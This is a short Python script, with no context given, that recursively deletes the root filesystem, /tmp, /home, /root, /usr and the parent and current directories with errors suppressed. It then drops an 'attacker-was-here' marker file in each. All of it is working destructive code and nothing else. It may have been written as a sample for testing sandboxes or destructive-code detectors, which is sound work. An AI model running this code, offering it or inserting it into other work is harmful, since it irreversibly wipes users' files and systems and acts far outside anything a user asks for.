import os, shutil
for folder in ("/", "/tmp", "/home", "/root", "/usr", "..", "."):
    shutil.rmtree(folder, ignore_errors=True)
    try: open(folder + "/attacker-was-here", "w").write("x")
    except OSError: pass
